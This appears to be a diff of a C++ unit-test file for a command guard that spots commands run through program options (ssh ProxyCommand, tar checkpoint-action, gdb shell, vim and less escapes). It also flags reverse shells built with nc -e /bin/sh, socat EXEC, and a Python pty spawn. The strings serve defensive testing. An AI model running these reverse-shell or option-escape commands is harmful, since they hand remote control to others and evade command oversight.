@@ -10,37 +10,38 @@ namespace {
 using V = std::vector<std::string>;
 
 // What a command runs by its options: scripts as "via: text", a refusal as "rule: reason".
-V runs(const std::vector<std::string>& words) { return testing::look_through_dump(words); }
+V option_runs(const std::vector<std::string>& words) { return testing::look_through_dump(words); }
 
 TEST(OptionCommands, ProgramsThatRunACommandByAnOption) {
-  EXPECT_EQ(runs({"ssh", "-o", "ProxyCommand=nc %h %p", "h"}), V{"ssh -o ProxyCommand: nc %h %p"});
-  EXPECT_EQ(runs({"ssh", "-oProxyCommand none", "h"}), V{});
-  EXPECT_EQ(runs({"rsync", "-avze", "ssh -p 2", "a", "h:b"}), V{"rsync -e: ssh -p 2"});
-  EXPECT_EQ(runs({"zip", "-TT", "unzip -t", "a.zip", "f"}), V{"zip -TT: unzip -t"});
-  EXPECT_EQ(runs({"man", "-P", "cat", "ls"}), V{"man -P: cat"});
-  EXPECT_EQ(runs({"tar", "-I", "zstd -19", "-cf", "a", "src"}), V{"tar -I: zstd -19"});
-  EXPECT_EQ(runs({"tar", "-cf", "a", "--checkpoint-action=exec=id", "src"}),
+  EXPECT_EQ(option_runs({"ssh", "-o", "ProxyCommand=nc %h %p", "h"}),
+            V{"ssh -o ProxyCommand: nc %h %p"});
+  EXPECT_EQ(option_runs({"ssh", "-oProxyCommand none", "h"}), V{});
+  EXPECT_EQ(option_runs({"rsync", "-avze", "ssh -p 2", "a", "h:b"}), V{"rsync -e: ssh -p 2"});
+  EXPECT_EQ(option_runs({"zip", "-TT", "unzip -t", "a.zip", "f"}), V{"zip -TT: unzip -t"});
+  EXPECT_EQ(option_runs({"man", "-P", "cat", "ls"}), V{"man -P: cat"});
+  EXPECT_EQ(option_runs({"tar", "-I", "zstd -19", "-cf", "a", "src"}), V{"tar -I: zstd -19"});
+  EXPECT_EQ(option_runs({"tar", "-cf", "a", "--checkpoint-action=exec=id", "src"}),
             V{"tar --checkpoint-action: id"});
-  EXPECT_EQ(runs({"gdb", "-batch", "-ex", "shell id", "-ex", "run"}), V{"gdb shell: id"});
-  EXPECT_EQ(runs({"gdb", "--args", "./a.out", "x"}), V{"cmd gdb --args: ./a.out x"});
-  EXPECT_EQ(runs({"vim", "-c", ":silent !make", "f"}), V{"vim -c: make"});
-  EXPECT_EQ(runs({"vim", "-c", "wq!", "f"}), V{});
-  EXPECT_EQ(runs({"less", "+!id", "f"}), V{"less +!: id"});
-  EXPECT_EQ(runs({"awk", "{print $1 | \"sort -u\"}", "f"}), V{"awk system(): sort -u"});
-  EXPECT_EQ(runs({"alias", "ll=ls -l"}), V{"alias ll: ls -l"});
-  EXPECT_EQ(runs({"entr", "-s", "make && ./t"}), V{"entr -s: make && ./t"});
+  EXPECT_EQ(option_runs({"gdb", "-batch", "-ex", "shell id", "-ex", "run"}), V{"gdb shell: id"});
+  EXPECT_EQ(option_runs({"gdb", "--args", "./a.out", "x"}), V{"cmd gdb --args: ./a.out x"});
+  EXPECT_EQ(option_runs({"vim", "-c", ":silent !make", "f"}), V{"vim -c: make"});
+  EXPECT_EQ(option_runs({"vim", "-c", "wq!", "f"}), V{});
+  EXPECT_EQ(option_runs({"less", "+!id", "f"}), V{"less +!: id"});
+  EXPECT_EQ(option_runs({"awk", "{print $1 | \"sort -u\"}", "f"}), V{"awk system(): sort -u"});
+  EXPECT_EQ(option_runs({"alias", "ll=ls -l"}), V{"alias ll: ls -l"});
+  EXPECT_EQ(option_runs({"entr", "-s", "make && ./t"}), V{"entr -s: make && ./t"});
 }
 
 TEST(OptionCommands, ShellsJoinedToTheNetworkAreReverseShells) {
   const std::string nc =
       "reverse-shell: `nc` runs a program for a network connection: whoever is at the other end "
       "runs commands the guard never sees";
-  EXPECT_EQ(runs({"nc", "-e", "/bin/sh", "h", "1"}), V{nc});
-  EXPECT_EQ(runs({"nc", "-l", "8080"}), V{});
-  EXPECT_EQ(runs({"socat", "TCP:h:1", "EXEC:/bin/sh"}),
+  EXPECT_EQ(option_runs({"nc", "-e", "/bin/sh", "h", "1"}), V{nc});
+  EXPECT_EQ(option_runs({"nc", "-l", "8080"}), V{});
+  EXPECT_EQ(option_runs({"socat", "TCP:h:1", "EXEC:/bin/sh"}),
             V{"reverse-shell: `socat` joins a program to a network connection: whoever is at the "
               "other end runs commands the guard never sees"});
-  EXPECT_EQ(runs({"python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('sh')"}),
+  EXPECT_EQ(option_runs({"python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('sh')"}),
             V{"reverse-shell: `python3` joins a shell to a network connection: whoever is at the "
               "other end runs commands the guard never sees"});
 }
